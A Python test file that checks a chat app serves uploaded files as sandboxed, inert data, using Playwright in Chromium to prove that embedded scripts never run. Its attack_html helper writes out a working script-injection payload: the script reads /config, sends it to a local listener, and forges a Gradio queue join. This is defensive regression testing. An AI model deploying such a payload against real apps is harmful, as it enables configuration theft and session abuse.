"""A file from the user's folders is data, never code on the app's origin (issue 40, item 1).

The attack: an ``.html`` file with a ``<script>`` in a collection, a question it answers, a click on
"Open" under the answer. Served inline from the app's origin, its script read ``/config``, joined the
Gradio queue and sent what it found to another server. Now every file is sandboxed, never sniffed, and
HTML, SVG and other markup are sent as plain text; PDFs and images still show as themselves.

Over HTTP against the real outer app (the fixture of ``test_frame_guard``); in Chromium, against the same
server for each risky type, and end to end against ``launch.py``: upload, ask, open the cited file.
"""

from __future__ import annotations

import contextlib
import http.server
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.ui.patience import HANG_MS
from tests.ui.server.test_frame_guard import Outer, outer  # noqa: F401  (the fixture)
from tests.ui.test_browser import CHROMIUM, ROOT, running_app
from ui.server.security_headers import FILE_POLICY, served_type

ARTIFACTS = ROOT / "test-artifacts" / "file-sandbox"
PLAIN = "text/plain; charset=utf-8"


@pytest.mark.parametrize(
    "name",
    [
        "a.html",
        "a.HTM",
        "a.xhtml",
        "a.svg",
        "a.xml",
        "a.xsl",
        "a.js",
        "a.md",
        "a.txt",
        "a.json",
        "a.eml",
        "a",
    ],
)
def test_markup_scripts_and_text_are_sent_as_plain_text(name: str) -> None:
    assert served_type(name).media_type == PLAIN
    assert served_type(name).disposition == "inline"


def test_what_a_browser_only_displays_keeps_its_type_and_the_rest_is_downloaded() -> None:
    assert served_type("report.pdf").media_type == "application/pdf"
    assert served_type("photo.JPG").media_type == "image/jpeg"
    assert served_type("photo.png").disposition == "inline"
    assert served_type("letter.docx").media_type == "application/octet-stream"
    assert served_type("letter.docx").disposition == "attachment"
    assert served_type("book.epub").disposition == "attachment"


def test_every_cited_file_is_sandboxed_and_markup_comes_as_text(outer: Outer) -> None:  # noqa: F811
    expected = {
        "page.html": PLAIN,
        "page.htm": PLAIN,
        "page.xhtml": PLAIN,
        "drawing.svg": PLAIN,
        "data.xml": PLAIN,
        "notes.md": PLAIN,
        "no-suffix": PLAIN,
        "report.pdf": "application/pdf",
        "photo.png": "image/png",
        "letter.docx": "application/octet-stream",
    }
    for name, media_type in expected.items():
        reply = outer.request("GET", f"/kimas/source/{name}/{name}")
        assert reply.status == 200, name
        assert reply.header("content-type") == media_type, name
        assert reply.headers["content-security-policy"] == [FILE_POLICY], name
        assert FILE_POLICY.startswith("sandbox;") and "allow-" not in FILE_POLICY
        assert reply.header("x-content-type-options") == "nosniff", name
        inline = media_type != "application/octet-stream"
        assert reply.header("content-disposition").startswith("inline" if inline else "attachment"), name


# -- in Chromium ---------------------------------------------------------------------------------------


class Listener:
    """Another server on 127.0.0.1 that records every request it gets (where a script would send data)."""

    def __init__(self) -> None:
        self.seen: list[str] = []
        seen = self.seen

        class Handler(http.server.BaseHTTPRequestHandler):
            def _record(self) -> None:
                seen.append(f"{self.command} {self.path}")
                self.send_response(204)
                self.end_headers()

            do_GET = do_POST = _record

            def log_message(self, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = int(self.server.server_address[1])
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    yield server
    server.close()


def attack_html(listen_port: int) -> str:
    """A page that tells the truth about a harbour and tries, as the attack did, to take over the app."""
    leak = f"http://127.0.0.1:{listen_port}"
    return f"""<!doctype html><html><head><title>Harbour notes</title></head><body>
<h1>Port Vellum</h1>
<p>The harbour master of Port Vellum is Odalys Crane. She keeps the tide tables in the blue ledger.</p>
<script>
document.title = 'PWNED';
new Image().src = '{leak}/ran';
fetch('/config').then(r => r.text()).then(t => fetch('{leak}/config', {{method: 'POST', body: t, mode: 'no-cors'}}));
fetch('/gradio_api/queue/join', {{method: 'POST', headers: {{'Content-Type': 'application/json'}},
  body: JSON.stringify({{data: ['pwned'], fn_index: 0, session_hash: 'pwned', event_data: null, trigger_id: null}})}})
  .then(r => fetch('{leak}/joined-' + r.status, {{mode: 'no-cors'}}));
</script></body></html>"""


def _requests_of(page: Any) -> list[str]:
    made: list[str] = []
    page.on("request", lambda r: made.append(r.url))
    return made


def _assert_inert(page: Any, url: str, made: list[str], listener: Listener) -> None:
    """``page`` shows ``url`` and nothing in it ran: no title change, no request but the file itself."""
    page.wait_for_load_state("networkidle")
    assert page.title() != "PWNED"
    assert [u for u in made if u.split("#")[0] != url.split("#")[0]] == [], made
    assert listener.seen == []


@pytest.mark.browser
@pytest.mark.slow
def test_risky_files_do_not_run_in_chromium_and_a_pdf_still_shows(
    outer: Outer,  # noqa: F811
    listener: Listener,
    tmp_path: Path,
) -> None:
    sync_api = pytest.importorskip("playwright.sync_api")
    if not Path(CHROMIUM).exists():
        pytest.skip(f"no Chromium at {CHROMIUM} (scripts/test.sh installs Debian's chromium)")
    base = f"http://{outer.own}/kimas/source"
    with sync_api.sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=CHROMIUM, headless=True)
        try:
            for name in ("page.html", "page.htm", "page.xhtml", "drawing.svg", "notes.md", "no-suffix"):
                page = browser.new_page()
                made = _requests_of(page)
                page.goto(f"{base}/{name}/{name}")
                _assert_inert(page, f"{base}/{name}/{name}", made, listener)
                assert "<script>" in page.locator("body").inner_text(), name  # shown as its source
            pdf = browser.new_page()  # Chromium's PDF viewer still shows a PDF in the sandbox
            with pdf.expect_event("framenavigated", lambda f: f.url.startswith("chrome-extension://")) as ev:
                pdf.goto(f"{base}/report.pdf/report.pdf")
            viewer = ev.value
            thumbnail = viewer.get_by_role("tab", name="Thumbnail for page 1")
            sync_api.expect(thumbnail).to_be_visible(timeout=HANG_MS)
            pdf.screenshot(path=str(ARTIFACTS / "pdf-in-sandbox.png"))
        finally:
            browser.close()


@pytest.mark.browser
@pytest.mark.slow
def test_opening_a_cited_html_file_runs_none_of_its_script(tmp_path: Path, listener: Listener) -> None:
    sync_api = pytest.importorskip("playwright.sync_api")
    if not Path(CHROMIUM).exists():
        pytest.skip(f"no Chromium at {CHROMIUM} (scripts/test.sh installs Debian's chromium)")
    folder = tmp_path / "harbour"
    folder.mkdir()
    (folder / "harbour.html").write_text(attack_html(listener.port), "utf-8")
    data = tmp_path / "data"
    with running_app(data, ARTIFACTS) as url, sync_api.sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=CHROMIUM, headless=True)
        context = browser.new_context(viewport={"width": 1280, "height": 1000})
        page = context.new_page()
        page.set_default_timeout(HANG_MS)
        try:
            _index_and_ask(sync_api.expect, page, url, folder)
            cited = page.locator("#chatbot details.kimas-citation", has_text="harbour.html").first
            cited.locator("summary").click()
            link = cited.locator(".kimas-open a")
            made: list[str] = []  # what any page but the app's own asks for, from the click on

            def seen(request: Any) -> None:
                if not request.is_navigation_request() and request.frame.page != page:
                    made.append(request.url)

            context.on("request", seen)
            with context.expect_page() as opened:
                link.click()
            file_page = opened.value
            file_page.wait_for_load_state("load")
            file_page.screenshot(path=str(ARTIFACTS / "02-opened-file.png"))
            _assert_inert(file_page, file_page.url, made, listener)
            assert "document.title = 'PWNED'" in file_page.locator("body").inner_text()
        finally:
            with contextlib.suppress(Exception):
                page.screenshot(path=str(ARTIFACTS / "99-last.png"), full_page=True)
            browser.close()


def _index_and_ask(expect: Any, page: Any, url: str, folder: Path) -> None:
    """Create a collection, upload ``folder`` into it, and ask the question its HTML file answers."""
    expect.set_options(timeout=HANG_MS)
    page.goto(url)
    page.get_by_role("tab", name="Knowledge").click()
    page.locator("#new-collection textarea, #new-collection input").first.fill("harbour")
    page.locator("#create-collection").click()
    expect(page.locator("#collections")).to_contain_text("harbour")
    page.locator("#upload-folder input[type=file]").set_input_files(str(folder))
    expect(page.locator("#collections")).to_contain_text("1 file", timeout=HANG_MS)
    page.get_by_role("tab", name="Chat").click()
    expect(page.locator("#model-status")).to_contain_text("Ready", timeout=HANG_MS)
    question = page.locator("#question textarea, #question input").first
    question.fill("Who is the harbour master of Port Vellum?")
    question.press("Enter")
    citation = page.locator("#chatbot details.kimas-citation summary", has_text="harbour.html")
    expect(citation.first).to_be_visible(timeout=HANG_MS)
    page.screenshot(path=str(ARTIFACTS / "01-cited.png"), full_page=True)
